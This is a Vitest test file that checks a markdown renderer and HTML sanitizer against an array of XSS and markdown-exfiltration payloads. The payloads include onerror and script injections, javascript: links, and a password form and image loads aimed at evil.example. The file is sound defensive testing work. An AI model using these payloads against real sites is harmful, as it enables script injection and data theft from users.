// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { renderBlocks } from '@/markdown/blocks'
import { createParser } from '@/markdown/parser'
import { sanitize } from '@/markdown/sanitize'

const parser = createParser({ copy: 'Copy', opensElsewhere: 'opens elsewhere' }, () => null)

function show(markdown: string): HTMLElement {
  const place = window.document.createElement('div')
  place.innerHTML = renderBlocks(parser, markdown, false)
    .map((block) => sanitize(block.html))
    .join('')
  return place
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](file:///etc/passwd)',
  '[x](/settings)',
  '[x](//evil.example)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x" onerror="alert(1)](https://evil.example/x.png)',
  '![x](https://evil.example/x.png" onerror="alert(1))',
  '<https://evil.example/" onmouseover="alert(1)>',
  '<javascript:alert(1)>',
  '[x](https://x.org "t\\" onclick=\\"alert(1)")',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| <script>alert(1)</script> |',
  '# <img src=x onerror=alert(1)>',
  '> - <details open ontoggle=alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
]

describe('what an answer may put on the page', () => {
  it.each(ATTACKS)('XSS through rendered output: holds nothing that runs or loads: %s', (attack) => {
    const place = show(attack)
    expect(
      place.querySelector('script, style, iframe, img, svg, math, form, input, object, embed, template'),
    ).toBeNull()
    for (const element of place.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^src/)
        if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:)/)
      }
    }
  })

  it.each(['<a href="/x" onclick="y()">z</a>', '<img src=x>', '<p style="color:red">x</p>', '<b id="app">x</b>'])(
    'loses HTML that no rule of ours makes, should it ever come so far: %s',
    (html) => {
      expect(sanitize(html)).not.toMatch(/onclick|<img|style=|id=|href="\//)
    },
  )

  it('opens links elsewhere, marked, without telling from where', () => {
    const link = show('[manual](https://example.org/a?b=1&c=2)').querySelector('a')
    expect(link?.getAttribute('href')).toBe('https://example.org/a?b=1&c=2')
    expect(link?.getAttribute('target')).toBe('_blank')
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer')
    expect(link?.querySelector('.sr')?.textContent).toContain('opens elsewhere')
  })

  it('markdown exfiltration: shows pictures from elsewhere as links, and one in a link as its words', () => {
    expect(show('![a cat](https://example.org/cat.png)').querySelector('a')?.textContent).toContain('a cat')
    const nested = show('[![a cat](https://example.org/cat.png)](https://example.org)')
    expect(nested.querySelectorAll('a')).toHaveLength(1)
    expect(nested.textContent).toContain('a cat')
  })

  it('makes links of whole addresses only', () => {
    expect(show('See rename_photos.py and https://example.org.').querySelectorAll('a')).toHaveLength(1)
  })

  it('lets tables and code scroll inside themselves, within reach of the keyboard', () => {
    const place = show('| a | b |\n| --- | ---: |\n| 1 | 2 |\n\n```python\nx = 1\n```')
    expect(place.querySelector('.table-box')?.getAttribute('tabindex')).toBe('0')
    expect(place.querySelector('td.align-right')?.textContent).toBe('2')
    expect(place.querySelector('pre')?.getAttribute('tabindex')).toBe('0')
    expect(place.querySelector('.code-head')?.textContent).toBe('pythonCopy')
    expect(place.querySelector('pre')?.textContent).toBe('x = 1\n')
  })

  it('lets each block find its own direction', () => {
    const place = show('שלום\n\n- one\n\n# x')
    for (const tag of ['p', 'li', 'h1']) expect(place.querySelector(tag)?.getAttribute('dir')).toBe('auto')
  })
})
